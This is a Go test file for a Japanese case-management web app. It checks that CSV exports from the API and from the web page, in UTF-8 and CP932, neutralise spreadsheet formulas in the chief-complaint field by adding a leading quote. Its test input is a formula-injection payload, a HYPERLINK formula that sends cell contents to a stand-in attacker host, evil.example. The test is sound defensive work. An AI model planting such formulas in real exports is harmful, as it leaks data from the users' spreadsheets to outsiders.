package web_test

import (
	"strings"
	"testing"

	"golang.org/x/text/encoding/japanese"
)

// TestExportCSVNeutralisesFormulas: a 主訴 that Excel would evaluate is
// written with a leading ' in the API's and the page's CSV, UTF-8 and CP932.
func TestExportCSVNeutralisesFormulas(t *testing.T) {
	e := newEnv(t)
	tok := e.token("worker")
	pid := e.mkPerson(tok, yamada)
	const evil = `=HYPERLINK("http://evil.example/?"&A1,"詳細")`
	r := e.api("POST", "/api/v1/cases", tok, map[string]any{"focus_person_id": pid, "received_on": "R8.5.20", "route": "家族",
		"method": "来所", "bunya": []string{"kaigo"}, "problems": []string{"介護"}, "complaint": evil})
	if r.StatusCode != 201 {
		t.Fatalf("case: %d %s", r.StatusCode, r.Body)
	}
	b := e.browser()
	b.login("worker")
	for _, src := range []struct{ name, body string }{
		{"api utf8", e.api("GET", "/api/v1/exports/cases", tok, nil).Body},
		{"api cp932", e.api("GET", "/api/v1/exports/cases?encoding=cp932", tok, nil).Body},
		{"page", b.get("/exports/cases?format=csv&encoding=utf8").Body},
	} {
		body := src.body
		if strings.Contains(src.name, "cp932") {
			body, _ = japanese.ShiftJIS.NewDecoder().String(body)
		}
		rows := readCSV(t, strings.TrimPrefix(body, "\uFEFF"))
		col := -1
		for i, h := range rows[0] {
			if h == "主訴" {
				col = i
			}
		}
		if len(rows) != 2 || col < 0 || rows[1][col] != "'"+evil {
			t.Errorf("%s: 主訴 written as %q", src.name, rows)
		}
	}
}
